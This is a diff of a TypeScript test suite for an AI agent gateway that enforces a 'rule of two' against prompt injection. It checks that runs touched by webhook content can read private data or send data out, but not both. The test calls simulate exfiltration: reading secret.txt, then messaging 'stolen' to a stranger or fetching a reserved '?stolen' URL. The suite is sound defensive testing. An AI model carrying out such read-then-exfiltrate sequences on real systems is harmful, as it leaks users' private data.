@@ -1,5 +1,4 @@
-// The rule of two: whatever an injected text asks of an agent, it may read private things or send something outward,
-// not both.
+// Tests the rule of two: an agent with external content may read private data or send data out, but not both.
 import { mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
@@ -16,7 +15,7 @@ import {
   temporaryFolder,
 } from '../helpers.ts'
 
-/** R: reads private things. S: sends outward. N: neither. B: may do both. H: webhooks do not have it. */
+/** R: reads private data. S: sends data out. N: neither. B: may do both. H: not available to webhook runs. */
 type Kind = 'R' | 'S' | 'N' | 'B' | 'H'
 
 interface Sample extends Call {
@@ -25,9 +24,9 @@ interface Sample extends Call {
 
 const call = (kind: Kind, tool: string, args: Record<string, unknown> = {}): Sample => ({ kind, tool, args })
 
-/** A host that is listed in `tools.web.allowHosts`; nobody answers there. */
+/** A host in `tools.web.allowHosts`. Nothing listens there. */
 const listed = 'http://127.0.0.1:9/'
-/** An address that is nobody's: nothing is ever sent to it. */
+/** A reserved address. Nothing is ever sent to it. */
 const stranger = 'http://198.51.100.1/?stolen'
 
 const calls = [
@@ -65,7 +64,7 @@ const outcomeOf = (answer: string): Outcome => {
   return /unavailable tool|not available|no tool/i.test(answer) ? 'unavailable' : 'done'
 }
 
-/** What the second call meets when the first one came before it. */
+/** The outcome of the second call after the first one. */
 function expected(first: Kind, second: Kind): Outcome {
   if (second === 'H') return 'unavailable'
   if (second === 'B') return 'withheld'
@@ -82,7 +81,13 @@ const tool = (name, effects) => ({ name, description: 'A probe.', args: Type.Obj
 const probes = defineToolset({
   name: 'probes',
   description: 'Probes.',
-  tools: [tool('probe'), tool('probe_odd', () => 'nothing'), tool('probe_reads', ['reads-private']), tool('probe_sends', () => ['sends']), tool('probe_neither', [])],
+  tools: [
+    tool('probe'),
+    tool('probe_odd', () => 'nothing'),
+    tool('probe_reads', ['reads-private']),
+    tool('probe_sends', () => ['sends']),
+    tool('probe_neither', []),
+  ],
 })
 const pager = defineChannel({
   name: 'pager',
@@ -134,9 +139,9 @@ async function start(
   return { model, open, gateway: await open() }
 }
 
-/** A webhook has an agent do something; resolves with what its calls were answered. */
-const hook = async (...told: Parameters<typeof hookAnswers>): Promise<Outcome[]> =>
-  (await hookAnswers(...told)).map(outcomeOf)
+/** Lets a webhook run make calls, and returns their outcomes. */
+const hook = async (...args: Parameters<typeof hookAnswers>): Promise<Outcome[]> =>
+  (await hookAnswers(...args)).map(outcomeOf)
 
 async function hookAnswers(
   { post }: Pick<RunningGateway, 'post'>,
@@ -149,10 +154,10 @@ async function hookAnswers(
   return answersIn(answer.body.reply)
 }
 
-/** Of the tools that a webhook has at all. */
+/** The calls that are available to webhook runs. */
 const openCalls = calls.filter(({ kind }) => kind !== 'H')
 const openPairs = openCalls.flatMap((first) => openCalls.map((second) => [first, second] as const))
-/** Those that it does not have, before and behind a read and a message to a stranger. */
+/** The calls that are not, before and after a read and a message to a stranger. */
 const closedPairs = calls.flatMap((closed) =>
   closed.kind === 'H'
     ? openCalls.flatMap((open) => (isReadOrTheft(open) ? [[closed, open] as const, [open, closed] as const] : []))
@@ -162,7 +167,7 @@ const nameOf = ({ tool, args }: Call): string => `${tool} ${JSON.stringify(args)
 
 type Pair = (typeof openPairs)[number]
 
-/** Runs every pair, sixteen at a time, and compares what became of the second call. */
+/** Runs every pair, sixteen at a time, and compares the outcomes. */
 async function comparePairs(
   tried: readonly Pair[],
   attempt: (pair: Pair, session: string) => Promise<unknown>,
@@ -190,8 +195,8 @@ const bothOf = ([first, second]: Pair): Outcome[] => [
   expected(alone(first.kind) === 'done' ? first.kind : 'N', second.kind),
 ]
 
-describe('every pair of tools in a session of a webhook', { timeout: 120_000 }, () => {
-  it('obeys the rule in two steps of a run', async () => {
+describe('every pair of tools in a webhook session', { timeout: 120_000 }, () => {
+  it('obeys the rule in two steps of one run', async () => {
     const { gateway } = await start()
     await comparePairs(
       [...openPairs, ...closedPairs],
@@ -200,7 +205,7 @@ describe('every pair of tools in a session of a webhook', { timeout: 120_000 }, 
     )
   })
 
-  it('obeys the rule in one step: of two calls side by side that exclude each other, exactly one is made', async () => {
+  it('obeys the rule in one step: one of two exclusive calls is made', async () => {
     const { gateway } = await start()
     const sorted = (outcomes: readonly Outcome[]) => outcomes.toSorted()
     await comparePairs(
@@ -210,7 +215,7 @@ describe('every pair of tools in a session of a webhook', { timeout: 120_000 }, 
     )
   })
 
-  it('obeys the rule over two runs, and again after a restart', async () => {
+  it('obeys the rule across two runs, and after a restart', async () => {
     const { gateway, open } = await start()
     await comparePairs(
       openPairs,
@@ -229,9 +234,9 @@ describe('every pair of tools in a session of a webhook', { timeout: 120_000 }, 
     )
   })
 
-  it('obeys the rule over a subagent, whichever of the two acts first', async () => {
+  it('obeys the rule across a session and its subagent, in both orders', async () => {
     const { gateway } = await start()
-    // A subagent has no reply route of its own, so each of its messages is sent outward.
+    // A subagent has no reply route of its own, so each of its messages is sent out.
     const inSubagent = (one: Sample): Sample => (one.tool === 'message' ? { ...one, kind: 'S' } : one)
     const ofOwner = calls.filter(
       ({ tool, kind }) =>
@@ -261,7 +266,7 @@ describe('every pair of tools in a session of a webhook', { timeout: 120_000 }, 
 
 const spawn = ({ tool, args }: Call): Call => ({ tool: 'sessions_spawn', args: { task: orders([{ tool, args }]) } })
 
-/** What became of the call of a subagent, by what its starter was answered. */
+/** The outcome of a subagent's call, found through the answer to its initiator. */
 async function endOf({ get }: Pick<RunningGateway, 'get'>, spawned: string): Promise<Outcome> {
   const { runId } = JSON.parse(spawned) as { runId: string }
   const find = async () => (await get(`/runs/${runId}`)).body
@@ -269,7 +274,7 @@ async function endOf({ get }: Pick<RunningGateway, 'get'>, spawned: string): Pro
   return outcomeOf(answersIn((await find()).reply)[0] ?? '')
 }
 
-/** What became of the call that the subagent of this session was told to make. */
+/** The outcome of the call that this session's subagent made. */
 async function subagentOf({ get }: Pick<RunningGateway, 'get'>, session: string): Promise<Outcome> {
   const initiator = `agent:main:${session}`
   const find = async () =>
@@ -280,13 +285,13 @@ async function subagentOf({ get }: Pick<RunningGateway, 'get'>, session: string)
   return outcomeOf(answersIn((await find()).reply)[0] ?? '')
 }
 
-/** One call of each kind that webhooks have, and one that they have not. */
+/** One call of each kind that is available to webhook runs, and one that is not. */
 const reading: Call = { tool: 'read', args: { path: 'secret.txt' } }
 const stealing: Call = { tool: 'message', args: { text: 'stolen', channel: 'pager', to: 'stranger' } }
 const fetching: Call = { tool: 'web_fetch', args: { url: stranger } }
 const running: Call = { tool: 'exec', args: { command: 'true' } }
 
-/** Somebody talks with the agent in its main session on a chat. */
+/** Starts a gateway on which a person chats with the agent in its main session. */
 async function startWithPerson(changes: Setup = {}) {
   const [chat, dir] = [await startChat(), temporaryFolder()]
   const { plugins, channels } = chat.config(dir, { 'chat-native': { allowFrom: ['*'] } })
@@ -312,12 +317,12 @@ const runsOf = async (
 
 const offered = ({ body }: WireRequest): string[] =>
   (body['tools'] as { function: { name: string } }[]).map(({ function: { name } }) => name)
-const news = { text: 'The build has failed.', mode: 'next-heartbeat' }
+const event = { text: 'The build has failed.', mode: 'next-heartbeat' }
 
 describe('a turn of a person that renders waiting events of a webhook', () => {
-  it('has what a webhook has, sends nothing outward but to this conversation, and is told so', async () => {
+  it('is restricted like a webhook run, and its prompt says so', async () => {
     const { gateway, model, say } = await startWithPerson()
-    await gateway.post('/hooks/wake', news)
+    await gateway.post('/hooks/wake', event)
     const answers = await say(
       [reading],
       [stealing, fetching, running],
@@ -332,45 +337,45 @@ describe('a turn of a person that renders waiting events of a webhook', () => {
     expect(offered(await model.request(0))).not.toContain('exec')
   })
 
-  it('does not send the conversation away that it stands in, though no tool has read anything', async () => {
+  it('cannot send its own conversation out, even before any tool has read something', async () => {
     const { gateway, say } = await startWithPerson()
-    await gateway.post('/hooks/wake', news)
+    await gateway.post('/hooks/wake', event)
     expect(await say([stealing], [fetching])).toEqual(['withheld', 'withheld'])
   })
 
-  it('is the only one: asked again, the agent may do all that it may do for this person', async () => {
+  it('is the only restricted turn: the next one has all tools again', async () => {
     const { gateway, model, say } = await startWithPerson()
-    await gateway.post('/hooks/wake', news)
+    await gateway.post('/hooks/wake', event)
     await say([reading])
     expect(await say([reading], [stealing, running])).toEqual(['done', 'done', 'done'])
     const { requests } = model
     expect((await model.prompt(requests.length - 1)).includes('withheld')).toBe(false)
   })
 
-  it('is not restricted by events that were never outside: the result of a subagent of its own', async () => {
+  it('is not restricted by trusted events, such as the result of its own subagent', async () => {
     const { gateway, say } = await startWithPerson()
     await say([spawn(reading)])
     await expect.poll(async () => (await runsOf(gateway, 'subagent'))[0]?.status).toBe('succeeded')
     expect(await say([reading], [stealing])).toEqual(['done', 'done'])
   })
 
-  it('is restricted also through a subagent that it starts, and so is the turn that hears of its result', async () => {
+  it('also restricts its subagents, and the turn that reads their result', async () => {
     const { gateway, say } = await startWithPerson()
-    await gateway.post('/hooks/wake', news)
+    await gateway.post('/hooks/wake', event)
     expect(await say([spawn(stealing)])).toEqual(['done'])
     expect(await subagentOf(gateway, 'main')).toBe('withheld')
     expect(await say([stealing])).toEqual(['withheld'])
     expect(await say([stealing])).toEqual(['done'])
   })
 
-  it('is what a client says to the main session, and a periodic check, too', async () => {
+  it('can also be a heartbeat, or a message of a client to the main session', async () => {
     const { gateway, model } = await start()
     await gateway.post('/hooks/wake', { text: `${orders([stealing])} The build has failed.` })
-    const beat = await model.prompt(0)
-    expect(beat).toContain('this turn is restricted')
+    const prompt = await model.prompt(0)
+    expect(prompt).toContain('this turn is restricted')
     await expect.poll(async () => (await runsOf(gateway, 'heartbeat'))[0]?.status).toBe('succeeded')
     expect(answersIn((await runsOf(gateway, 'heartbeat'))[0]!.reply).map(outcomeOf)).toEqual(['withheld'])
-    await gateway.post('/hooks/wake', news)
+    await gateway.post('/hooks/wake', event)
     const say = async () => {
       const args = { sessionKey: 'main', message: orders([stealing]) }
       const { body } = await gateway.post(
@@ -385,13 +390,13 @@ describe('a turn of a person that renders waiting events of a webhook', () => {
   })
 })
 
-describe('what a webhook has an agent say elsewhere', () => {
+describe('a message that a webhook run sends to another session', () => {
   const sending = (sessionKey: string, ...steps: readonly (readonly Call[])[]): Call => ({
     tool: 'sessions_send',
     args: { sessionKey, message: orders(...steps), waitSeconds: 30 },
   })
 
-  it('binds the session that hears it: nothing leaves the main session that way, and its person is free again', async () => {
+  it('restricts the turn that reads it, and no later turn of the person', async () => {
     const { gateway, say } = await startWithPerson()
     await say([reading])
     await hook(gateway, 'hook:a', [
@@ -404,7 +409,7 @@ describe('what a webhook has an agent say elsewhere', () => {
     expect(await say([reading], [stealing])).toEqual(['done', 'done'])
   })
 
-  it('counts as outside text where its session is read: the turn that has read it is bound from then on', async () => {
+  it('is external content where its session is read, and restricts the reading turn', async () => {
     const { gateway, say } = await startWithPerson()
     await hook(gateway, 'hook:a', [reading])
     await say()
@@ -414,7 +419,7 @@ describe('what a webhook has an agent say elsewhere', () => {
     expect(await say([stealing])).toEqual(['done'])
   })
 
-  it('binds the turn that has read it also when the model fails then, and the turn goes on later', async () => {
+  it('restricts the turn that has read it also in a later attempt', async () => {
     const [model, dir] = [await startModel(), temporaryFolder()]
     const outage = Array.from({ length: 3 }, () => ({ status: 503, headers: { 'retry-after-ms': '1' } }))
     const history = { tool: 'sessions_history', args: { sessionKey: 'hook:a' } }
@@ -457,9 +462,9 @@ describe('what a webhook has an agent say elsewhere', () => {
   })
 
   it.each([
-    ['of its own accord', 'say'],
-    ['while it has news from outside before it', 'news'],
-  ])('may not pass on what the agent of a person says to it %s', async (_when, how) => {
+    ['after a turn of its own', 'say'],
+    ['while events are waiting', 'event'],
+  ])('cannot pass on what the agent of a person says to its session %s', async (_when, how) => {
     const { gateway, say } = await startWithPerson()
     await hook(gateway, 'hook:a', [{ tool: 'session_status', args: {} }])
     if (how === 'say') await say()
@@ -474,7 +479,7 @@ describe('the operator', () => {
   const invoke = ({ post }: Pick<RunningGateway, 'post'>, { tool, args }: Call, sessionKey: string) =>
     post('/tools/invoke', { tool, args, sessionKey }, operator)
 
-  it('is not bound over HTTP, and changes nothing for the session', async () => {
+  it('is not restricted over HTTP, and changes nothing for the session', async () => {
     const { gateway } = await start()
     await hook(gateway, 'hook:a', [reading])
     expect((await invoke(gateway, stealing, 'hook:a')).status).toBe(200)
@@ -482,14 +487,14 @@ describe('the operator', () => {
     expect(await hook(gateway, 'hook:a', [stealing], [reading])).toEqual(['withheld', 'done'])
   })
 
-  it('frees nothing by starting a run on behalf of the session', async () => {
+  it('starts restricted runs on behalf of a restricted session', async () => {
     const { gateway } = await start()
     await hook(gateway, 'hook:a', [reading])
     expect((await invoke(gateway, spawn(stealing), 'hook:a')).status).toBe(200)
     expect(await subagentOf(gateway, 'hook:a')).toBe('withheld')
   })
 
-  it('lifts the rule with tools.byOrigin.hook.allow, for everybody or for one agent', async () => {
+  it('lifts the rule with tools.byOrigin.hook.allow, for all agents or for one', async () => {
     const allow = ['read', 'message', 'probe', 'exec']
     for (const changes of [
       { tools: { byOrigin: { hook: { allow } } } },
@@ -505,7 +510,7 @@ describe('the operator', () => {
     }
   })
 
-  it('says with tools.effects what a tool does, by its name, a pattern or its toolset', async () => {
+  it('sets the effects of a tool with tools.effects, by name, pattern or toolset', async () => {
     const { gateway } = await start({
       tools: { effects: { probes: ['reads-private'], probe_odd: [], 'probe_s*': ['sends'] } },
     })
@@ -515,7 +520,7 @@ describe('the operator', () => {
     ).toEqual(['done', 'done', 'done', 'withheld'])
   })
 
-  it('sees what a tool does, and what the rule says of a session at the moment', async () => {
+  it('sees the effects of a tool, and the current verdict of the rule for a session', async () => {
     const { gateway } = await start()
     const { items } = (await gateway.get('/tools')).body
     const effectsOf = (tool: string) => items.find(({ name }: { name: string }) => name === tool).effects
@@ -543,7 +548,7 @@ describe('the operator', () => {
 })
 
 describe('a dry run', () => {
-  it('names the tools that the rule would refuse, of a run and of the heartbeat', async () => {
+  it('lists the tools that the rule would withhold, for a run and for the heartbeat', async () => {
     const { gateway } = await start()
     const dryRun = async () => {
       const [newest] = (await gateway.get('/api/requests?limit=1')).body.items
@@ -557,7 +562,7 @@ describe('a dry run', () => {
     }
     await hook(gateway, 'hook:a', [reading])
     expect((await dryRun()).actions[0].withheld).toEqual(['probe'])
-    await gateway.post('/hooks/wake', news)
+    await gateway.post('/hooks/wake', event)
     expect((await dryRun()).heartbeat).toMatchObject({
       withheld: ['probe'],
       tools: expect.arrayContaining(['read', 'message']),
